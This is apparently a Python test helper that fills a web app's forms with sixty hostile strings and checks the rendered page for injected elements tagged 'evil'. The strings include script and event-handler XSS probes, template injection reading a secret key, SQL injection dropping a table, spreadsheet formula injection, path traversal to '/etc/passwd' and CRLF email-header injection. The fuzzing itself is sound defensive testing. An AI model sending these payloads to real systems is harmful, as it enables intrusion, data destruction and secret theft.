"""Sixty texts that hurt programs, and the forms of a page filled with them.

Every tag and handler in them carries the word `evil`: whatever a browser would
make an element of can be told from our own.
"""

from collections.abc import Iterator
from dataclasses import dataclass, field

from tests.pages import Node, Tree

MARK = "evil"

TEXTS = (
    "<script evil>alert(1)</script>",
    "</textarea><script evil>alert(1)</script>",
    "</title><script evil>alert(1)</script>",
    '"><img evil src=x onerror=alert(1)>',
    "'><svg evil onload=alert(1)>",
    "<evil-x onfocus=alert(1) autofocus tabindex=1>",
    '" evil="1" onmouseover="alert(1)',
    "' evil='1' onmouseover='alert(1)",
    "` evil=1 onmouseover=alert(1) x=`",
    "<a evil href='javascript:alert(1)'>点</a>",
    "javascript:alert('evil')",
    "data:text/html,<script evil>alert(1)</script>",
    "<iframe evil srcdoc='<script>alert(1)</script>'>",
    "<style evil>*{display:none}</style>",
    "<base evil href=//evil.example/>",
    "<meta evil http-equiv=refresh content=0;url=//evil.example>",
    "<form evil action=//evil.example><input name=x>",
    "<div evil hx-get=/desk hx-trigger=load></div>",
    "<!--evil",
    "]]><evil>",
    "&lt;script evil&gt;",
    "&#60;script evil&#62;",
    "&amp;amp;",
    "{{ 7*7 }}",
    "{% raw %}",
    "{{ config.SECRET_KEY }}",
    "${7*7} #{7*7} %(x)s %s %n {0}",
    "'; DROP TABLE appeal; --",
    "' OR '1'='1",
    "\\'; SELECT pg_sleep(9); --",
    "%' ESCAPE '_",
    "100%_\\",
    '=HYPERLINK("http://evil.example")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "..\\..\\windows",
    "../../../etc/passwd",
    "a\r\nBcc: evil@evil.example",
    "a\nBEGIN:VEVENT\nSUMMARY:evil\nEND:VEVENT",
    "a\r\n\r\n<script evil>alert(1)</script>",
    "上\u2028下\u2029完",
    "上\x0b下\x0c完\x1c\x1d\x1e\x85",
    "零\0字",
    "半\ufffd个",
    "\x01\x02\x07\x08\x1b[31m",
    "\u202e倒着写\u202c",
    "\u200b\u200d\ufeff隐\u00ad形",
    "\u2066\u2067\u2068孤立\u2069",
    "مرحبا بالعالم שלום",
    "z̵̢̛͙̗a̷͎̾l̶̙̈́g̸͓̑o̴",
    "👩‍👩‍👧‍👦🏳️‍🌈🇨🇳",
    "𠮷𡈽𪚥㐂",
    "ＦＵＬＬ　ｗｉｄｔｈ１３８００００００００",
    "\ufffe\uffff\U0010ffff",
    "长" * 10_000,
    "a" * 10_000,
    "\n" * 300,
    "   ",
)
assert len(TEXTS) == 60

TYPED = {"text", "search", "tel", "email", "url", "password", ""}
NEVER_SENT = {"submit", "button", "image", "reset", "file"}


def evil_nodes(html: str) -> list[Node]:
    """Elements that one of the texts has become."""
    return [node for node in Tree(html).nodes if MARK in node.tag or any(map(_is_evil, node.attrs))]


def _is_evil(name: str) -> bool:
    return name.startswith((MARK, "on"))


@dataclass
class Form:
    """One form of a page: where it goes, and its fields with their values as drawn."""

    action: str
    method: str
    typed: list[str] = field(default_factory=list)
    given: dict[str, list[str]] = field(default_factory=dict)

    @property
    def names(self) -> tuple[str, ...]:
        """What tells one kind of form from another."""
        return tuple(sorted({*self.typed, *self.given}))

    def filled(self, turn: int, *, all_fields: bool) -> dict[str, list[str]]:
        """The form with a text in each field that is typed into, or in every one."""
        names = self.names if all_fields else tuple(self.typed)
        texts = {name: [TEXTS[(turn + at * 7) % len(TEXTS)]] for at, name in enumerate(names)}
        return {**self.given, **texts}


def forms(tree: Tree, address: str) -> Iterator[Form]:
    """The forms of a page, as a browser without scripts would send them."""
    for node in tree.nodes:
        if node.tag == "form":
            yield _form(tree, node, address)


def _form(tree: Tree, node: Node, address: str) -> Form:
    form = Form(node.get("action") or address, (node.get("method") or "get").lower())
    for item in tree.nodes:
        if item.get("name") and (item.inside("form") is node or item.get("form") == node.get("id")):
            _take(form, item, tree)
    return form


def _take(form: Form, item: Node, tree: Tree) -> None:
    name, kind = item.get("name"), item.get("type")
    if item.tag == "textarea" or (item.tag == "input" and kind in TYPED):
        form.typed.append(name)
    elif item.tag == "select":
        options = [o.get("value") for o in tree.nodes if o.inside("select") is item]
        form.given.setdefault(name, [next(filter(None, options), "")])
    elif item.tag != "input" or kind in NEVER_SENT or name == "_once":
        return
    elif kind != "radio" or name not in form.given:
        form.given.setdefault(name, []).append(item.get("value"))
